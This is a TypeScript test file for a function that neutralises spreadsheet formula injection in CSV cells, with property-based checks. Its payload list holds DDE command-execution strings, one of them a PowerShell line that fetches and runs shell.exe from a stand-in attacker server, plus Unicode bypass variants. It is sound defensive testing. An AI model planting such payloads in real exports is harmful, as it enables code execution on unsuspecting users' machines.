import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { disarm, rearm } from './formula-cells';

/** Payloads of the OWASP page and of github.com/payloadbox/csv-injection-payloads, and the ways around a naive check. */
const FORMULAS = [
  "=cmd|' /C notepad'!'A1'",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd',
  '+5',
  '@import',
  '=HYPERLINK("https://example.org/"&A1,"x")',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u3000＝1+1',
  '"=1+1"',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\tplain',
  '\rplain',
  '\n=1+1',
  'harmless\n=1+1',
  'harmless;=1+1',
  'harmless; "=1+1"',
  'harmless\t@SUM(1)',
];

/** What a spreadsheet makes of a text that it treats as a cell: blanks and invisible characters do not count. */
const seemsFormula = (cell: string) => /^[=+\-@＝＋－＠]/u.test(cell.replace(/^(?:[\p{Cf}\p{Z}\p{Cc}"])+/u, ''));
const isNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);

describe('a cell that a spreadsheet could run', () => {
  test.each(FORMULAS)('is disarmed: %j', (formula) => {
    const cell = disarm(formula);
    expect(cell).not.toBe(formula);
    for (const part of cell.split(/[;\t\r\n]/)) expect(seemsFormula(part), part).toBe(false);
    expect(/^[\t\r]/.test(cell), 'it begins with a TAB or CR').toBe(false);
    expect(rearm(cell)).toBe(formula);
  });

  test.each(['DDE ("cmd";"/C calc";"!A0")A0', "'=1+1 is what he wrote", "'", "it's", 'a=b', 'about 400', ''])(
    'a cell that a spreadsheet could not run comes back as it was: %j',
    (text) => expect(rearm(disarm(text))).toBe(text),
  );
});

test.each(['-5', '0', '360', '-0.25', '123456789012345678901234567890'])('a number stays a number: %s', (figure) => {
  expect(disarm(figure)).toBe(figure);
  expect(rearm(figure)).toBe(figure);
});

/** Texts made of the letters that matter here, so that unlikely sequences of them occur. */
const awkward = fc.string({
  unit: fc.constantFrom("'", '=', '+', '-', '@', '＝', '\t', '\r', '\n', ';', '"', ' ', '\u200b', '\\', ',', '5', 'a'),
});

test('every text comes back exactly, and no part of it looks like a formula', () => {
  fc.assert(
    fc.property(fc.oneof(awkward, fc.string({ unit: 'binary' })), (text) => {
      const cell = disarm(text);
      expect(rearm(cell)).toBe(text);
      if (isNumber(text)) return;
      for (const part of cell.split(/[;\t\r\n]/)) expect(seemsFormula(part)).toBe(false);
      expect(/^[\t\r]/.test(cell)).toBe(false);
    }),
    { numRuns: 1000 },
  );
});
